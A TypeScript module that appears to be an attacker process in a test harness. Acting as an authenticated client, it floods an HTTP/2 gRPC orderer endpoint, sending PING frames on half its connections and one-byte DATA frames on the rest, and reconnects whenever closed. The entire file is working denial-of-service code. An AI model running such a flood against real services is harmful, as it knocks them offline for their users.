// A client that is permitted, and sends frames of HTTP/2 as fast as they are taken: PING frames over one half
// of its connections, messages byte by byte over the other. A process of its own, ended by its parent.
import { connect } from 'node:tls'
import type { TLSSocket } from 'node:tls'
import type { Attack } from './intruders.ts'

/** As many as one certificate may have. */
const connections = 16

let sent = 0

process.on('disconnect', () => process.exit(0))
process.on('message', (message: Attack | 'count') => {
  if (message === 'count') process.send?.({ counted: sent })
  else begin(message)
})

function begin({ targets, tls }: Attack): void {
  for (const target of targets)
    for (let index = 0; index < connections; index++) flood(target, tls, index % 2 === 0)
  process.send?.('begun')
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.length, 0, 3)
  header.writeUInt8(type, 3)
  header.writeUInt8(flags, 4)
  header.writeUInt32BE(stream, 5)
  return Buffer.concat([header, payload])
}

function text(value: string): Buffer {
  return Buffer.concat([Buffer.from([value.length]), Buffer.from(value)])
}

const headers = {
  ':method': 'POST',
  ':scheme': 'https',
  ':authority': 'localhost',
  ':path': '/orderer.AtomicBroadcast/Broadcast',
  'content-type': 'application/grpc',
  te: 'trailers',
}
/** Each as a literal with its name, without an index: RFC 7541 §6.2.2. */
const block = Object.entries(headers).flatMap((pair) => [Buffer.from([0]), ...pair.map(text)])
const hello = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(4, 0, 0, Buffer.alloc(0)),
  frame(1, 4, 1, Buffer.concat(block)),
])
/** The beginning of a message of 1 MB. */
const head = Buffer.from([0, 0, 0x0f, 0x42, 0x40])
const pings = Buffer.alloc(17 * 4000, frame(6, 0, 0, Buffer.alloc(8)))
const parts = Buffer.alloc(10 * 6000, frame(0, 0, 1, Buffer.alloc(1)))

/** One connection, opened again when it is closed. */
function flood(target: Attack['targets'][0], tls: Attack['tls'], isPing: boolean): void {
  const at = target.address.lastIndexOf(':')
  const socket = connect({
    ...{ host: target.address.slice(0, at), port: Number(target.address.slice(at + 1)) },
    ...{ ca: target.roots, cert: tls.certificate, key: tls.key, servername: 'localhost' },
    ALPNProtocols: ['h2'],
  })
  socket.on('error', () => undefined).resume()
  socket.on('secureConnect', () => {
    socket.write(Buffer.concat([hello, frame(0, 0, 1, head)]))
    pour(socket, isPing ? pings : parts)
  })
  socket.on('close', () => setTimeout(() => flood(target, tls, isPing), 1000))
}

function pour(socket: TLSSocket, bytes: Buffer): void {
  socket.write(bytes, (error) => {
    if (error) return
    sent += bytes.length
    pour(socket, bytes)
  })
}
